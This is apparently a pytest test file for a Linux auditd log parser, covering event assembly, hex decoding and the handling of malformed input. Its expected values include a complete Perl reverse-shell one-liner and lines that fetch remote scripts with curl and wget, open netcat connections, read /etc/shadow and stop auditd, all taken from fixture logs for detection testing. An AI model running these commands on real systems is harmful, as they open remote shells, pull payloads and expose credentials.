"""linux_auditd: records merged into events, decoded command lines, users, addresses."""

from __future__ import annotations

import gzip
import json
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import loaders
from loaders.linux_auditd.events import Assembler, assemble_argv
from loaders.linux_auditd.fields import (
    canonical_ip,
    decode_proctitle,
    decode_sockaddr,
    decode_value,
    parse_record,
    split_fields,
)
from tests.conftest import FIXTURES

DIR = FIXTURES / "linux-auditd"
ALL = sorted(p for p in DIR.iterdir() if p.name != "PROVENANCE.tsv")
_STAMP = re.compile(r"^(?:node=(\S+) )?type=\S+ msg=audit\((\d+\.\d+):(\d+)\)", re.M)
_NO_STAMP = re.compile(r"^(?:node=\S+ )?type=\S+ msg=(?!audit\(\d+\.\d+:\d+\))", re.M)


def _text(path: Path) -> str:
    data = path.read_bytes()
    if data[:2] == b"\x1f\x8b":
        data = gzip.decompress(data)
    return data.decode("utf-8", "replace")


def _event(path: Path, serial: int, host: str | None = None) -> dict[str, Any]:
    ev = loaders.load(path).events
    rows = ev[ev["audit_serial"] == serial]
    if host is not None:
        rows = rows[rows["host"] == host]
    assert len(rows) == 1
    return {k: (None if v is pd.NA or (isinstance(v, float) and pd.isna(v)) else v)
            for k, v in rows.iloc[0].to_dict().items()}


@pytest.mark.parametrize("path", ALL, ids=lambda p: p.name)
def test_one_event_per_node_time_serial(path: Path) -> None:
    text = _text(path)
    keys = set(_STAMP.findall(text))
    stampless = len(_NO_STAMP.findall(text))  # one event each (none is a file's first line)
    result = loaders.load(path)
    assert result.source == "linux_auditd"
    assert len(result.events) == len(keys) + stampless
    assert result.counts.read == len(keys) + stampless + result.counts.rejected
    assert result.events["event_uid"].is_unique


def test_real_fixtures_have_no_rejects() -> None:
    for path in ALL:
        if not path.name.startswith("synthetic"):
            assert loaders.load(path).rejects.empty, path.name


def test_stampless_record_is_its_own_flagged_event(tmp_path: Path) -> None:
    ev = _event(DIR / "go-libaudit_auparse_audit-rhel7.log", 390)
    result = loaders.load(DIR / "go-libaudit_auparse_audit-rhel7.log")
    row = result.events[result.events["source_line"] == 31].iloc[0]
    assert row["raw"] == "type=UNKNOWN[1329] msg=?"
    assert row["timestamp"] == ev["timestamp"]  # line 30's, the record before it
    assert pd.isna(row["audit_serial"]) and not row["audit_incomplete"]
    assert (row["audit_type"], row["action"], row["category"]) == (
        "UNKNOWN[1329]", "UNKNOWN[1329]", "system")
    assert row["parse_warning"] == ("line 31: no msg=audit(<time>:<serial>) stamp, time taken "
                                    "from the record before it (line 30)")
    # repeated stampless lines stay distinct events; before any record, one is a reject
    path = tmp_path / "audit.log"
    path.write_text("type=UNKNOWN[1329] msg=?\n"
                    "type=USER_CMD msg=audit(1700000000.250:5): pid=1 res=success\n"
                    "type=UNKNOWN[1329] msg=?\nnode=h2 type=UNKNOWN[1329] msg=?\n")
    result = loaders.load(path)
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (4, 3, 1)
    assert result.rejects["source_line"].tolist() == [1]
    assert "no record before it" in result.rejects["reason"][0]
    rows = result.events[result.events["audit_type"] == "UNKNOWN[1329]"]
    assert rows["host"].fillna("").tolist() == ["", "h2"]
    assert rows["timestamp"].tolist() == [pd.Timestamp("2023-11-14 22:13:20.250", tz="UTC")] * 2
    assert result.events["event_uid"].is_unique


def test_msticpy_counts_and_failed_ssh_login() -> None:
    result = loaders.load(DIR / "msticpy_auditd_log.txt")
    assert (result.counts.read, result.counts.rejected) == (938, 0)
    ev = _event(DIR / "msticpy_auditd_log.txt", 23)
    assert ev["timestamp"] == pd.Timestamp("2019-03-02 00:10:08.371", tz="UTC")
    assert (ev["category"], ev["action"], ev["outcome"]) == (
        "authentication", "USER_LOGIN", "failure")
    assert (ev["user"], ev["src_ip"], ev["process_image"]) == (
        "root", "36.156.24.99", "/usr/sbin/sshd")
    assert ev["session_id"] is None and ev["audit_auid"] is None


def test_enriched_perl_reverse_shell() -> None:
    ev = _event(DIR / "laurel_record-perl-reverse-shell.txt", 348501)
    assert ev["timestamp"] == pd.Timestamp("2021-07-18 12:29:23.720", tz="UTC")
    assert (ev["category"], ev["action"], ev["outcome"]) == ("process", "execve", "success")
    assert ev["process_command_line"] == (
        'perl -e use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,'
        'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'
        '">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};')
    assert json.loads(ev["audit_args"])[:2] == ["perl", "-e"]
    # ENRICHED names: the login user "user" survives the switch to root
    assert (ev["user"], ev["user_id"], ev["audit_auid"], ev["audit_auid_name"]) == (
        "root", "0", "1000", "user")
    assert (ev["session_id"], ev["audit_tty"], ev["audit_cwd"]) == ("3", "pts3", "/root")
    assert (ev["process_pid"], ev["process_ppid"], ev["process_image"]) == (
        724395, 722076, "/usr/bin/perl")
    assert ev["audit_record_types"] == "SYSCALL,EXECVE,CWD,PATH,PATH,PATH,PROCTITLE"
    assert [p["name"] for p in json.loads(ev["audit_paths"])] == [
        "/usr/bin/perl", "/usr/bin/perl", "/lib64/ld-linux-x86-64.so.2"]
    assert ev["audit_incomplete"] is False or ev["audit_incomplete"] == False  # noqa: E712


def test_enriched_plaso_execve_with_space_in_argument() -> None:
    ev = _event(DIR / "plaso_audit_enriched.log", 735)
    assert ev["process_command_line"] == "/usr/bin/cat /tmp/my report.txt"
    assert json.loads(ev["audit_args"]) == ["/usr/bin/cat", "/tmp/my report.txt"]
    assert (ev["user"], ev["audit_uid_name"], ev["audit_key"], ev["session_id"]) == (
        "root", "root", "spec2", "14")
    deleted = _event(DIR / "plaso_audit_enriched.log", 399)
    assert (deleted["category"], deleted["action"], deleted["outcome"], deleted["user"],
            deleted["target"]) == ("access_management", "DEL_USER", "failure",
                                   "specimenuser", "specimenuser")
    pubkey = _event(DIR / "plaso_audit_enriched.log", 441)
    assert (pubkey["user"], pubkey["src_ip"], pubkey["outcome"], pubkey["audit_op"]) == (
        "root", "172.23.112.1", "failure", "pubkey")


def test_execve_argument_split_into_hex_chunks_across_records() -> None:
    ev = _event(DIR / "laurel_record-execve-long.txt", 21028)
    args = json.loads(ev["audit_args"])
    assert args[0] == "/bin/echo"
    assert len(args[1]) == 8192 and args[1].startswith("baaa") and args[1].endswith("aag")
    assert set(args[1]) == set("abcdefg")
    assert ev["process_command_line"] == "/bin/echo " + args[1]
    assert ev["audit_record_types"].count("EXECVE") == 3 and not ev["audit_incomplete"]
    assert (ev["user"], ev["audit_auid_name"]) == ("user", "user")


def test_out_of_order_records_node_prefix() -> None:
    path = DIR / "audit-userspace_auparse_test3.log"
    ev = _event(path, 194435)
    # its PROCTITLE arrives three lines later, after records of other events
    assert ev["audit_record_types"] == "SYSCALL,PROCTITLE"
    assert ev["process_command_line"] == "sshd: burn [priv]"
    assert (ev["host"], ev["user"], ev["action"], ev["process_image"], ev["session_id"]) == (
        "auditdtest.a1959.org", "1000", "select", "/usr/sbin/sshd", "1")
    assert ev["raw"].count("\n") == 1 and ev["source_line"] == 1


def test_long_execve_argc_48_and_path_items() -> None:
    ev = _event(DIR / "audit-userspace_auparse_test4.log", 25618)
    args = json.loads(ev["audit_args"])
    assert len(args) == 48
    assert args[-1] == "/usr/lib64/gcc/aarch64-alt-linux/8/../../../../lib64/crtn.o"
    assert ev["process_command_line"].startswith("/bin/sh -efu /usr/bin/ld -plugin ")
    assert ev["audit_cwd"] == "/usr/src/RPM/BUILD/zlib-1.2.11-alt1"
    assert len(json.loads(ev["audit_paths"])) == 3


def test_connect_with_sockaddr_is_network() -> None:
    ev = _event(DIR / "go-libaudit_normal.log", 58)
    assert (ev["category"], ev["action"], ev["outcome"]) == ("network", "connect", "failure")
    assert (ev["target_type"], ev["target"]) == ("socket", "169.254.169.254:80")
    assert (ev["audit_sockaddr_family"], ev["audit_sockaddr_address"],
            ev["audit_sockaddr_port"]) == ("inet", "169.254.169.254", 80)
    # hex-encoded exe decoded
    assert ev["process_image"] == "/usr/bin/python2.7;58d1ccfb (deleted)"


def test_file_delete_and_hex_acct() -> None:
    path = DIR / "go-libaudit_aucoalesce_events.log"
    unlink = _event(path, 162937)
    # an AppArmor AUDIT record names the event; the syscall is kept beside it
    assert (unlink["category"], unlink["action"], unlink["outcome"], unlink["target"]) == (
        "system", "AVC", "success", "/var/lib/apt/lists/partial/.apt-acquire-privs-test.zW4jyj")
    assert (unlink["audit_syscall"], unlink["audit_avc"]) == ("unlink", "apparmor AUDIT")
    assert unlink["process_command_line"] == "apt-get update"
    invalid = _event(path, 19955)
    assert (invalid["user"], invalid["src_ip"], invalid["outcome"]) == (
        "(invalid user)", "179.38.151.221", "failure")
    avc = _event(DIR / "audit-userspace_auparse_test.log", 293)
    assert (avc["action"], avc["outcome"], avc["target_type"], avc["target"]) == (
        "AVC", "denied", "dir", "maildrop")
    assert avc["audit_avc"] == "denied { read write }"


def test_synthetic_interleaved_out_of_order() -> None:
    path = DIR / "synthetic_interleaved_out_of_order.log"
    curl = _event(path, 1001, host="web01")
    assert curl["audit_record_types"] == "PROCTITLE,SYSCALL,EXECVE,CWD,PATH,PATH"
    assert curl["process_command_line"] == "curl -s http://198.51.100.7/x.sh -o /tmp/x.sh"
    assert (curl["user"], curl["audit_auid"], curl["session_id"], curl["audit_key"]) == (
        "0", "1000", "12", "net-tools")
    login = _event(path, 1001, host="web02")  # same time:serial, other node: other event
    assert (login["user"], login["src_ip"], login["outcome"]) == ("bob", "203.0.113.9",
                                                                  "failure")
    nc = _event(path, 1003)
    assert (nc["category"], nc["target"], nc["process_command_line"]) == (
        "network", "[2001:db8::7]:443", "nc 2001:db8::7 443")
    sudo = _event(path, 1002)
    assert (sudo["category"], sudo["process_command_line"], sudo["audit_cwd"]) == (
        "process", "systemctl stop auditd", "/home/alice")


def test_synthetic_lost_records_flagged_and_kept() -> None:
    result = loaders.load(DIR / "synthetic_lost_records.log")
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (4, 3, 1)
    assert result.rejects["source_line"].tolist() == [4]
    tar = _event(DIR / "synthetic_lost_records.log", 2001)
    assert tar["audit_incomplete"]
    assert tar["parse_warning"] == ("incomplete event: argument a2 is missing; "
                                    "incomplete event: 1 of 2 PATH records missing")
    assert tar["process_command_line"] == "tar czf /etc/shadow"
    orphan = _event(DIR / "synthetic_lost_records.log", 2002)
    assert orphan["audit_incomplete"] and "SYSCALL record missing" in orphan["parse_warning"]
    assert (orphan["process_command_line"], orphan["audit_cwd"]) == (
        "wget http://203.0.113.5/m", "/tmp")
    assert not _event(DIR / "synthetic_lost_records.log", 2003)["audit_incomplete"]


def test_synthetic_split_execve_chunks_and_unix_socket() -> None:
    path = DIR / "synthetic_split_execve.log"
    bash = _event(path, 3001)
    assert json.loads(bash["audit_args"]) == ["bash", "-c", "echo " + "é" * 10 + " done"]
    assert bash["audit_key"] == "exec,susp"
    assert json.loads(bash["audit_paths"])[0]["name"] == "/usr/bin/my bash"
    assert not bash["audit_incomplete"]
    sock = _event(path, 3002)
    assert (sock["category"], sock["target"], sock["audit_sockaddr_family"],
            sock["audit_comm"]) == ("network", "/var/run/nscd/socket", "unix", "cron d")


def test_synthetic_gz_rotation() -> None:
    path = DIR / "synthetic_rotated.log.1.gz"
    cat = _event(path, 4001)
    assert (cat["category"], cat["action"], cat["outcome"], cat["target"]) == (
        "file", "open", "failure", "/etc/shadow")
    assert cat["process_command_line"] == "cat /etc/shadow"
    login = _event(path, 4002)
    assert (login["user"], login["user_id"], login["src_ip"]) == (
        "1001", "1001", "192.0.2.44")


def test_record_parsing_and_decoding() -> None:
    rec = parse_record('node=h1 type=USER_START msg=audit(1170021601.344:297): user pid=1 '
                       "msg='PAM: session open acct=root : exe=\"/usr/sbin/crond\" "
                       "(hostname=?, addr=?, terminal=cron res=success)'\x1dUID=\"root\"", 7)
    assert rec is not None
    assert (rec.node, rec.type, rec.sec, rec.frac, rec.serial) == (
        "h1", "USER_START", "1170021601", "344", "297")
    assert rec.fields["terminal"] == "cron" and rec.fields["res"] == "success"
    assert rec.fields["addr"] == "?" and rec.enriched == {"UID": "root"}
    assert parse_record("type=UNKNOWN[1329] msg=?", 1) is None
    assert split_fields('key=(null) tty=(none) grantors=pam_env,pam_unix')["key"] == "(null)"
    assert decode_value("exe", "2F62696E2F6C73") == "/bin/ls"
    assert decode_value("acct", "root") == "root" and decode_value("acct", '"?"') is None
    assert decode_proctitle("6C73002D6C61") == "ls -la"
    assert decode_sockaddr("0A0001BB0000000020010DB800000000000000000000000700000000") == (
        "inet6", "2001:db8::7", 443)
    assert decode_sockaddr("0100006162630000") == ("unix", "@abc", None)
    assert canonical_ip("?") == (None, None)
    assert canonical_ip("2001:0db8::0001") == ("2001:db8::1", None)
    assert canonical_ip("::ffff:192.0.2.44") == ("192.0.2.44", None)


def test_window_bounds_memory_and_late_records_become_fragments() -> None:
    asm = Assembler(window=3)
    lines = [f"type=SYSCALL msg=audit(1.000:{n}): syscall=1" for n in range(1, 6)]
    lines.append("type=PATH msg=audit(1.000:1): item=0 name=\"/x\"")
    out = []
    for i, text in enumerate(lines, 1):
        rec = parse_record(text, i)
        assert rec is not None
        out.extend(asm.add(rec))
        assert len(asm._open) <= 3
    out.extend(asm.flush())
    ids = [ev.native_id() for ev in out]
    assert ids.count(":1.000:1") == 1 and ":1.000:1#1" in ids


def test_window_bounds_the_text_it_holds() -> None:
    # user-space records have no EOE: they wait in the window, which also bounds their text
    asm = Assembler(window=1000, max_chars=400)
    lines = [f"type=USER_CMD msg=audit(1.000:{n}): pid=1 msg='cmd={'41' * 40} res=success'"
             for n in range(1, 11)]  # 142 characters each
    lines.append("type=USER_CMD msg=audit(1.000:2): pid=1 msg='cmd=42 res=success'")
    out = []
    for i, text in enumerate(lines, 1):
        rec = parse_record(text, i)
        assert rec is not None
        out += [(i, ev.native_id()) for ev in asm.add(rec)]
        assert asm._chars <= 400
    out += [(0, ev.native_id()) for ev in asm.flush()]
    # the third record passes 400 characters: the two oldest go, and so on; serial 2 came
    # back after it was emitted: a flagged late fragment, nothing lost
    assert out == [(3, ":1.000:1"), (3, ":1.000:2"), (5, ":1.000:3"), (5, ":1.000:4"),
                   (7, ":1.000:5"), (7, ":1.000:6"), (9, ":1.000:7"), (9, ":1.000:8"),
                   (0, ":1.000:9"), (0, ":1.000:10"), (0, ":1.000:2#1")]


def test_sniff_is_specific() -> None:
    loader = loaders.get_loader("linux_auditd")
    assert loader.sniff(b"node=a type=SYSCALL msg=audit(1.2:3): x=1\n", "a")
    assert not loader.sniff(b"Mar 11 22:55:30 host sshd[3]: Accepted password\n", "auth.log")
    assert not loader.sniff(b'{"type":"SYSCALL","msg":"audit(1.2:3)"}\n', "x.json")


def test_hostile_argc_does_not_loop() -> None:
    rec = parse_record('type=EXECVE msg=audit(1.000:1): argc=999999999999 a0="ls" a1="-l"', 1)
    assert rec is not None
    args, problems = assemble_argv([rec])
    assert args == ["ls", "-l"]
    assert problems == ["999999999997 of 999999999999 arguments missing (a2, a3, a4…)"]


def test_invalid_utf8_kept_with_warning(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    path.write_bytes(b'type=USER_CMD msg=audit(1709287201.000:7): pid=1 uid=0 auid=0 ses=1 '
                     b"msg='cwd=\"/r\xff\" cmd=6964 terminal=pts/0 res=success'\n")
    result = loaders.load(path)
    assert (result.counts.read, result.counts.loaded) == (1, 1)
    ev = result.events.iloc[0]
    assert ev["process_command_line"] == "id" and ev["audit_cwd"] == "/r\ufffd"
    assert "invalid UTF-8" in ev["parse_warning"] and "\\xff" in ev["raw"]


def test_event_and_table_paths_give_the_same_values() -> None:
    # parse() yields Arrow batches (linux_auditd_table); event() maps one event to a Parsed
    path = DIR / "laurel_record-perl-reverse-shell.txt"
    loader = loaders.get_loader("linux_auditd")
    asm = Assembler()
    events = []
    for i, text in enumerate(_text(path).split("\n"), 1):  # not splitlines: 0x1d
        rec = parse_record(text, i)
        if rec is not None:
            events.extend(asm.add(rec))
    events.extend(asm.flush())
    table = loaders.load(path).events
    assert len(events) == len(table)
    for ev in events:
        parsed = loader.event(ev)  # type: ignore[attr-defined]
        row = table[table["audit_serial"] == parsed.fields["audit_serial"]].iloc[0]
        for key, value in parsed.fields.items():
            got = row[key]
            assert (value is None and pd.isna(got)) or got == value, key
        assert row["raw"] == parsed.raw and row["source_line"] == parsed.line


def test_numbers_beyond_int64_are_null_not_a_failed_batch(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    path.write_text("type=SYSCALL msg=audit(1700000000.123:1): arch=c000003e syscall=59 "
                    "pid=99999999999999999999999 exit=-99999999999999999999 uid=0\n"
                    "type=USER_CMD msg=audit(1700000000.200:99999999999999999999999): pid=1\n"
                    "type=USER_CMD msg=audit(1700000000.300:3): pid=7\n")
    result = loaders.load(path)
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (3, 2, 1)
    assert "serial 99999999999999999999999 out of range" in result.rejects["reason"][0]
    first = result.events.iloc[0]
    assert pd.isna(first["process_pid"]) and pd.isna(first["audit_exit"])
    assert result.events.iloc[1]["process_pid"] == 7


def test_parsing_makes_no_reference_cycles_and_restores_the_collector(tmp_path: Path) -> None:
    # the loader turns the cyclic garbage collector off for a whole file (linux_auditd.parse)
    # on the grounds that its objects, and the runner's, hold no cycles: every fixture and
    # hostile variant, in one process and with helpers, leaves nothing for it to collect
    import gc
    from dataclasses import replace

    from loaders.base import LoadOptions, Tuning
    from tests.test_linux_auditd_fast import ALL, _table, _variants

    # helpers for every file, in chunks of 3 events
    tuning = Tuning(auditd_offload_bytes=0, auditd_chunk_events=3)
    inputs = []
    for path in ALL:
        for name, data in _variants(path):
            inputs.append(tmp_path / f"{path.name}-{name}.log")
            inputs[-1].write_bytes(data)
    # start the helpers (their pool lives on)
    _table(inputs[0], LoadOptions(helpers=2, tuning=tuning))
    gc.collect()
    try:
        gc.disable()
        for path in inputs:
            for options in (LoadOptions(tuning=tuning),
                            LoadOptions(batch_size=3, max_initial_rejects=3, tuning=tuning)):
                _table(path, options)
                _table(path, replace(options, helpers=2))
        assert gc.collect() == 0
    finally:
        gc.enable()
    # on, it is switched back on, also when the reader stops early
    batches = loaders.iter_batches(ALL[0], format="linux_auditd",
                                   options=LoadOptions(batch_size=2))
    next(batches)
    assert not gc.isenabled()
    batches.close()
    assert gc.isenabled()
    assert sum(t.num_rows for t in loaders.iter_batches(ALL[0], format="linux_auditd")) > 0
    assert gc.isenabled()
